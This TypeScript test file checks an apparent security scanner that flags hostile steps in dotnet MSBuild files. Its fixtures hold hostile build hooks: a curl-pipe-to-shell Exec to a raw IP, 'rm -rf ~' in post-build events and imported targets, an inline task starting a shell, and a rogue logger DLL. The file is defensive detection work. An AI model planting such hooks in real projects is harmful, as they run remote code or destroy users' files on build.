// dotnet builds read the MSBuild files they evaluate: project files found by listing the folder (or named), the
// solution's projects, project references, imports and Directory.Build files up the tree. Hostile repositories are
// real folders in a temp directory (git init first, then files written with fs calls; nothing in them is run).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { buildRepository, runIn } from '../testdata/build-repository';
import type { DiskProject } from '../testdata/disk-reader';
import { readMsbuild } from './build-files-dotnet';

const SDK = '<Project Sdk="Microsoft.NET.Sdk">';
const PLAIN = `${SDK}<PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup><ItemGroup><PackageReference Include="xunit" Version="2.6.1" /></ItemGroup></Project>\n`;

let p: DiskProject;

beforeAll(async () => {
  await loadShellParser();
  p = buildRepository('gavel-dotnet-', {
    'ok/App.csproj': PLAIN,
    'ok/Directory.Build.props':
      '<Project><PropertyGroup><Nullable>enable</Nullable></PropertyGroup></Project>\n',
    'okexec/App.csproj': `${SDK}<Target Name="Lint" BeforeTargets="Build"><Message Text="lint" /><Exec Command="dotnet tool restore" /></Target></Project>\n`,
    'exec/App.csproj': `${SDK}<Target Name="X" BeforeTargets="Build"><Exec Command="curl -s http://203.0.113.7/x | sh" /></Target></Project>\n`,
    'wipe/App.csproj': `${SDK}<PropertyGroup><PostBuildEvent>rm -rf ~</PostBuildEvent></PropertyGroup></Project>\n`,
    'inline/App.csproj': `${SDK}<UsingTask TaskName="T" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll"><Task><Code>System.Diagnostics.Process.Start("sh");</Code></Task></UsingTask></Project>\n`,
    'task/App.csproj': `${SDK}<Target Name="D" AfterTargets="Build"><DownloadFile SourceUrl="https://x.example/a" DestinationFolder="obj" /></Target></Project>\n`,
    'props/App.csproj': PLAIN,
    'props/Directory.Build.targets': `<Project><Target Name="X" AfterTargets="Build"><Exec Command="rm -rf ~" /></Target></Project>\n`,
    'ref/src/App/App.csproj': `${SDK}<ItemGroup><ProjectReference Include="..\\Lib\\Lib.csproj" /></ItemGroup></Project>\n`,
    'ref/src/Lib/Lib.csproj': `${SDK}<Target Name="X" BeforeTargets="Build"><Exec Command="rm -rf ~" /></Target></Project>\n`,
    'sln/App.sln': 'Project("{FAE04EC0}") = "Lib", "src\\Lib\\Lib.csproj", "{1}"\nEndProject\n',
    'sln/src/Lib/Lib.csproj': `${SDK}<Target Name="X" BeforeTargets="Build"><Exec Command="rm -rf ~" /></Target></Project>\n`,
    'imp/App.csproj': `${SDK}<Import Project="build/extra.targets" /></Project>\n`,
    'imp/build/extra.targets': `<Project><Target Name="X" BeforeTargets="Build"><Exec Command="rm -rf ~" /></Target></Project>\n`,
    'rsp/App.csproj': PLAIN,
    'rsp/Directory.Build.rsp': '-logger:/tmp/evil.dll\n',
  });
});

afterAll(() => {
  p?.remove();
});

const run = (dir: string, command: string) => runIn(p, dir, command);

describe('dotnet reads the MSBuild files it evaluates', () => {
  it.each([
    ['a plain SDK project with Directory.Build.props', 'ok', 'dotnet build'],
    ['a target that only restores tools and prints', 'okexec', 'dotnet test'],
    ['a project named on the command line', '.', 'dotnet build ok/App.csproj'],
    ['help', 'exec', 'dotnet build --help'],
  ])('quiet: %s', (_, dir, command) => {
    const { categories, codes } = run(dir, command);
    expect({ categories, codes }).toEqual({ categories: [], codes: [] });
  });
  it('an Exec that pipes a download into a shell is remote code', () => {
    expect(run('exec', 'dotnet build').categories).toContain('remote_code_execution');
    expect(run('.', 'dotnet test exec').categories).toContain('remote_code_execution');
  });
  it.each([
    ['a post-build event', 'wipe', 'dotnet build'],
    ['Directory.Build.targets up the tree', 'props', 'dotnet build'],
    ['a referenced project', 'ref/src/App', 'dotnet run'],
    ['a project a solution lists', 'sln', 'dotnet build'],
    ['an imported targets file', 'imp', 'dotnet pack'],
  ])('the floor: %s', (_, dir, command) => {
    expect(run(dir, command).categories).toContain('destructive_root_delete');
  });
  it.each([
    ['an inline task', 'inline'],
    ['a task gavel does not know', 'task'],
    ['a Directory.Build.rsp', 'rsp'],
  ])('uncertain: %s', (_, dir) => {
    expect(run(dir, 'dotnet build').codes).toContain('dynamic-script');
  });
});

describe('readMsbuild', () => {
  it('runs an Exec in its working folder, with MSBuild values left to run time', () => {
    const read = readMsbuild(
      '<Project><Target Name="A"><Exec WorkingDirectory="ClientApp" Command="npm ci &amp;&amp; npm run build -- $(Configuration)" /></Target></Project>',
      '/w',
    );
    expect(read.commands).toEqual([`cd '/w/ClientApp' && npm ci && npm run build -- "$__msbuild_value"`]);
  });
  it('an import from MSBuild itself is the SDK; one computed otherwise is opaque', () => {
    expect(
      readMsbuild(
        '<Project><Import Project="$(MSBuildToolsPath)\\Microsoft.CSharp.targets" /></Project>',
        '/w',
      ).opaque,
    ).toBeUndefined();
    expect(
      readMsbuild('<Project><Import Project="$(Evil)/x.targets" /></Project>', '/w').opaque,
    ).toBeDefined();
  });
});
